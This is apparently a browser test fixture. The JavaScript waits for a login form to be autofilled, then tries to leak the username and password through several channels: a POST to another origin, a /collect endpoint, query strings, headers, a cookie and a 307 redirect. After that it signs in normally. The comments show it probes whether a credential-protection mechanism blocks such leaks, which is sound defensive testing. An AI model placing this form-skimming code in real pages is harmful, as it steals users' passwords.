// Waits until something has filled the fields in, then carries the value to
// places it was not meant for, and last of all signs in as it should.
(async () => {
  const at = document.getElementById("trap");
  const field = document.querySelector("input[name=password]");
  while (!field.value) await new Promise((f) => setTimeout(f, 50));
  const user = document.querySelector("input[name=username]").value;
  const value = field.value;
  const form = (o) => new URLSearchParams(o);
  const send = async (url, init) => {
    try {
      await fetch(url, { redirect: "follow", ...init });
    } catch {
      // refused: as it should be
    }
  };
  const traps = {
    origin: () => send(at.dataset.other + "/login", { method: "POST", mode: "no-cors", body: form({ username: user, password: value }) }),
    path: () => send("/collect", { method: "POST", body: form({ username: user, password: value }) }),
    method: () => send("/login", { method: "PUT", body: form({ username: user, password: value }) }),
    query: () => send("/login?" + form({ username: user, password: value })),
    field: () => send("/login", { method: "POST", body: form({ username: user, note: value }) }),
    header: () => send("/collect", { method: "POST", headers: { "X-Password": value, Authorization: "Bearer " + value } }),
    cookie: async () => {
      document.cookie = "stolen=" + encodeURIComponent(value) + "; path=/";
      history.replaceState(null, "", "/login?ref=" + encodeURIComponent(value));
      await send("/collect", { method: "POST" });
    },
    json: () => send("/login", { method: "POST", headers: { "Content-Type": "application/json" }, body: JSON.stringify({ password: value }) }),
    redirect: () => send("/redirect?code=307&to=" + encodeURIComponent(at.dataset.other + "/login"), { method: "POST", mode: "no-cors", body: form({ username: user, password: value }) }),
    right: () => send("/login", { method: "POST", body: form({ username: user, password: value }) }),
    twice: () => send("/login", { method: "POST", body: form({ username: user, password: value }) }),
  };
  for (const name of at.dataset.trap === "all" ? Object.keys(traps) : at.dataset.trap.split(" ")) {
    at.textContent = name;
    await traps[name]();
  }
  at.textContent = "done";
  await fetch("/collect?done=1", { method: "POST" });
})();
